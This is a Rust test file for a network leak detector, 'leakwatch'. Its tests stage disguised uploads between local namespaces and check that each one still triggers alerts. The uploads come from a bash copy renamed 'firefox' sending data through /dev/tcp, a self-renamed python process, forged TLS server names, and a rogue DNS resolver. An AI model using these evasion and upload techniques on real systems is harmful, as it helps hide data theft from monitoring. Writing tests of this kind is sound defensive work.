//! Issue 18, names the sender chooses, live (root only; a failure instead of a skip when
//! `LEAKWATCH_REQUIRE_LIVE=1`): for each way a program can name itself or its destination, three
//! `leakwatch run` processes (paranoid, adequate, chill) watch namespace A's veth while real
//! programs in A upload 400 KB to namespace B, and each of the three must alert. No traffic leaves
//! the two namespaces; every loop is bounded in count and time.

mod netns;

use netns::{KillOnDrop, NetPair, Run, lines, python, sh, wait_success};
use std::process::Stdio;
use std::time::Duration;

/// Bound on every wait in this file.
const WAIT: Duration = Duration::from_secs(20);
const SINK: u16 = 443;
const UPLOAD: usize = 400_000;

/// One `leakwatch run` per mode, all watching A's veth.
fn every_mode(pair: &NetPair) -> Vec<(&'static str, Run)> {
    ["paranoid", "adequate", "chill"].into_iter().map(|m| (m, Run::start_in_mode(pair, m, &[]))).collect()
}

/// Each run's alert for `dst` (bounded wait); then every run is stopped.
fn alert_in_every_mode(runs: Vec<(&'static str, Run)>, dst: &str) -> Vec<(&'static str, serde_json::Value)> {
    runs.into_iter()
        .map(|(mode, mut run)| {
            let (alert, _) = run.wait_alert(dst, WAIT);
            println!("{mode}: {alert}");
            assert_eq!(run.interrupt(), 0);
            (mode, alert)
        })
        .collect()
}

/// Runs `program args…` in A and waits (bounded) for it to succeed; returns what it printed.
fn run_in_a(pair: &NetPair, program: &str, args: &[&str]) -> Vec<String> {
    let mut child =
        KillOnDrop(pair.in_a(program).args(args).stdout(Stdio::piped()).stderr(Stdio::inherit()).spawn().unwrap());
    let out = lines(child.0.stdout.take().unwrap());
    wait_success(&mut child, program, WAIT);
    // The reader thread has the last lines once the pipe is closed.
    let mut got = Vec::new();
    while let Ok(l) = out.recv_timeout(WAIT) {
        got.push(l);
    }
    got
}

/// Python that builds a TLS ClientHello naming `name` (`hello(name)`), for the senders below.
const HELLO: &str = "import socket,struct,os,ctypes\n\
def hello(name):\n\
\x20n=name.encode()\n\
\x20sni=struct.pack('!HBH',len(n)+3,0,len(n))+n\n\
\x20ext=struct.pack('!HH',0,len(sni))+sni\n\
\x20body=b'\\x03\\x03'+os.urandom(32)+b'\\x00'+struct.pack('!H',2)+b'\\x13\\x01'+b'\\x01\\x00'+struct.pack('!H',len(ext))+ext\n\
\x20hs=b'\\x01'+struct.pack('!I',len(body))[1:]+body\n\
\x20return b'\\x16\\x03\\x01'+struct.pack('!H',len(hs))+hs\n";

/// Python: connect to `dst`:443, send a ClientHello naming `name` when given, then `bytes` bytes.
fn tls_upload(dst: &str, name: Option<&str>, bytes: usize) -> String {
    format!("{HELLO}{}", tls_upload_body(dst, name, bytes))
}

/// [`tls_upload`] without its preamble.
fn tls_upload_body(dst: &str, name: Option<&str>, bytes: usize) -> String {
    let first = name.map(|n| format!("s.sendall(hello('{n}'))\n")).unwrap_or_default();
    format!("s=socket.create_connection(('{dst}',{SINK}),timeout=5)\n{first}s.sendall(b'x'*{bytes})\ns.close()\n")
}

/// A copy of bash named `firefox` in a temporary folder (not installed: /tmp is writable by all)
/// uploads 400 KB from its own process (only builtins: no child holds the socket), then stays a
/// second so that its executable can be read.
#[test]
fn a_copy_of_a_program_named_firefox_alerts_in_every_mode() {
    let Some(pair) = NetPair::new() else { return };
    let _sink = pair.sink_in_b(SINK);
    let dir = tempfile::tempdir().unwrap();
    let firefox = dir.path().join("firefox");
    std::fs::copy("/bin/bash", &firefox).unwrap();
    let runs = every_mode(&pair);
    let dst = pair.v4_b();
    let script = format!(
        "exec 3<>/dev/tcp/{dst}/{SINK}; for i in {{1..100}}; do printf '%4000s' '' >&3; done; exec 3>&-; sleep 1"
    );
    run_in_a(&pair, firefox.to_str().unwrap(), &["-c", &script]);
    for (mode, a) in alert_in_every_mode(runs, &dst) {
        assert_eq!(a["process"]["name"], "firefox", "{mode}: {a}");
        assert_eq!(a["process"]["exe"].as_str(), firefox.to_str(), "{mode}: {a}");
        assert_eq!(a["process"]["installed"], false, "{mode}: {a}");
        assert_ne!(a["pattern"], "Pattern.StdApp.Browser", "{mode}: not named a browser: {a}");
        let cb = a["callback_filter"].as_str().unwrap();
        assert!(cb.contains("\"exe\"") && cb.contains("\"dstip\""), "{mode}: Always ignore pins both: {cb}");
    }
}

/// An installed interpreter that calls itself `firefox` (`prctl(PR_SET_NAME)`) is judged by its
/// executable (python3), not by that name.
#[test]
fn an_installed_program_calling_itself_firefox_alerts_in_every_mode() {
    let Some(pair) = NetPair::new() else { return };
    let _sink = pair.sink_in_b(SINK);
    let runs = every_mode(&pair);
    let dst = pair.v4_b();
    let code = format!("{HELLO}ctypes.CDLL(None).prctl(15,b'firefox',0,0,0)\n{}", tls_upload_body(&dst, None, UPLOAD));
    run_in_a(&pair, python(), &["-c", &code]);
    for (mode, a) in alert_in_every_mode(runs, &dst) {
        assert_eq!(a["process"]["name"], "firefox", "{mode}: the name it gave itself is shown: {a}");
        assert!(a["process"]["exe"].as_str().is_some_and(|e| e.contains("python")), "{mode}: {a}");
    }
}

/// The uploader asks its own resolver (in B, not the namespace's configured `nameserver`) for
/// www.github.com, which answers with B's address; the upload to that address alerts in every
/// mode.
#[test]
fn a_name_from_the_programs_own_resolver_silences_no_mode() {
    let Some(pair) = NetPair::new() else { return };
    let _sink = pair.sink_in_b(SINK);
    let dst = pair.v4_b();
    let own = format!("10.200.{}.30", pair.n);
    pair.add_addr_b(&format!("{own}/24"));
    let resolver = format!(
        "import socket,struct\n\
         s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n\
         s.bind(('{own}',53))\n\
         print('listening',flush=True)\n\
         for _ in range(20):\n\
         \x20q,a=s.recvfrom(512)\n\
         \x20e=12\n\
         \x20while q[e]: e+=q[e]+1\n\
         \x20e+=5\n\
         \x20ans=b'\\xc0\\x0c'+struct.pack('!HHIH',1,1,60,4)+socket.inet_aton('{dst}')\n\
         \x20s.sendto(q[:2]+b'\\x81\\x80'+q[4:6]+b'\\x00\\x01\\x00\\x00\\x00\\x00'+q[12:e]+ans,a)\n"
    );
    let mut dns = KillOnDrop(pair.in_b(python()).args(["-c", &resolver]).stdout(Stdio::piped()).spawn().unwrap());
    let ready = lines(dns.0.stdout.take().unwrap());
    assert_eq!(ready.recv_timeout(WAIT).as_deref(), Ok("listening"));
    let runs = every_mode(&pair);
    let upload = format!(
        "import socket,struct\n\
         q=struct.pack('!HHHHHH',0x4c57,0x0100,1,0,0,0)+b'\\x03www\\x06github\\x03com\\x00'+struct.pack('!HH',1,1)\n\
         u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n\
         u.settimeout(5)\n\
         u.sendto(q,('{own}',53))\n\
         r,_=u.recvfrom(512)\n\
         addr=socket.inet_ntoa(r[-4:])\n\
         print(addr,flush=True)\n\
         s=socket.create_connection((addr,{SINK}),timeout=5)\n\
         s.sendall(b'x'*{UPLOAD})\n\
         s.close()\n"
    );
    let out = run_in_a(&pair, python(), &["-c", &upload]);
    assert_eq!(out, std::slice::from_ref(&dst), "the resolver's answer");
    for (mode, a) in alert_in_every_mode(runs, &dst) {
        assert_eq!(a["kind"], "sudden", "{mode}: {a}");
        // Named only when the query's socket was attributed in time (a short-lived UDP socket may
        // not be); named or not, the name is not one a filter believes.
        if !a["hostname"].is_null() {
            assert_eq!(
                (a["hostname"].as_str(), a["name_trust"].as_str()),
                (Some("www.github.com"), Some("unverified")),
                "{mode}: {a}"
            );
        }
    }
}

/// TLS names the sender writes itself (GitHub's, and a Google video cache's) to an address their
/// owners do not hold alert in every mode.
#[test]
fn a_tls_name_the_sender_chose_silences_no_mode() {
    let Some(pair) = NetPair::new() else { return };
    let _sink = pair.sink_in_b(SINK);
    let second = format!("10.200.{}.20", pair.n);
    pair.add_addr_b(&format!("{second}/24"));
    let runs = every_mode(&pair);
    let first = pair.v4_b();
    run_in_a(&pair, python(), &["-c", &tls_upload(&first, Some("github.com"), UPLOAD)]);
    run_in_a(&pair, python(), &["-c", &tls_upload(&second, Some("rr3---sn-abc.googlevideo.com"), UPLOAD)]);
    let runs: Vec<(&str, Run)> = runs
        .into_iter()
        .map(|(mode, mut run)| {
            let (a, _) = run.wait_alert(&first, WAIT);
            assert_eq!(a["hostname"], "github.com", "{mode}: {a}");
            (mode, run)
        })
        .collect();
    for (mode, a) in alert_in_every_mode(runs, &second) {
        assert_eq!(a["hostname"], "rr3---sn-abc.googlevideo.com", "{mode}: {a}");
    }
}

/// Another program sent the TLS name slack.com to the address; the uploader sends none. The name
/// is that connection's only: the upload alerts in every mode and is not named slack.com.
#[test]
fn another_programs_tls_name_does_not_name_the_upload() {
    let Some(pair) = NetPair::new() else { return };
    let _sink = pair.sink_in_b(SINK);
    let runs = every_mode(&pair);
    let dst = pair.v4_b();
    run_in_a(&pair, python(), &["-c", &tls_upload(&dst, Some("slack.com"), 100)]);
    run_in_a(&pair, python(), &["-c", &tls_upload(&dst, None, UPLOAD)]);
    for (mode, a) in alert_in_every_mode(runs, &dst) {
        assert_ne!(a["hostname"], "slack.com", "{mode}: {a}");
        assert!(a["pattern"].as_str().is_none_or(|p| !p.contains("Slack")), "{mode}: {a}");
    }
}

/// "Always ignore" on an upload named by a host-name pattern (GitHub) pins the destination too:
/// the same program sending the same TLS name to another address alerts again.
#[test]
fn always_ignore_on_a_named_alert_pins_the_destination() {
    let Some(pair) = NetPair::new() else { return };
    let _sink = pair.sink_in_b(SINK);
    let second = format!("10.200.{}.20", pair.n);
    pair.add_addr_b(&format!("{second}/24"));
    let first = pair.v4_b();
    let config = tempfile::tempdir().unwrap();
    let mut run = Run::start_with_config(&pair, "paranoid", &[], config.path());
    run_in_a(&pair, python(), &["-c", &tls_upload(&first, Some("github.com"), UPLOAD)]);
    let (a, _) = run.wait_alert(&first, WAIT);
    assert_eq!(run.interrupt(), 0);
    let cb = a["callback_filter"].as_str().unwrap().to_string();
    println!("callback filter: {cb}");
    let env = format!("LEAKWATCH_CONFIG_DIR={}", config.path().display());
    let add = sh(&["env", &env, env!("CARGO_BIN_EXE_leakwatch"), "ignores", "add-json", &cb]);
    assert!(add.status.success(), "{}", String::from_utf8_lossy(&add.stderr));
    let mut run = Run::start_with_config(&pair, "paranoid", &[], config.path());
    run_in_a(&pair, python(), &["-c", &tls_upload(&first, Some("github.com"), UPLOAD)]);
    run_in_a(&pair, python(), &["-c", &tls_upload(&second, Some("github.com"), UPLOAD)]);
    let (again, _) = run.wait_alert(&second, WAIT);
    assert_eq!(again["hostname"], "github.com", "{again}");
    run.read_alerts_for(Duration::from_secs(1));
    assert!(
        run.alerts.iter().all(|x| x["dstip"] != first.as_str()),
        "the ignored destination stays silent: {:#?}",
        run.alerts
    );
    assert_eq!(run.interrupt(), 0);
}
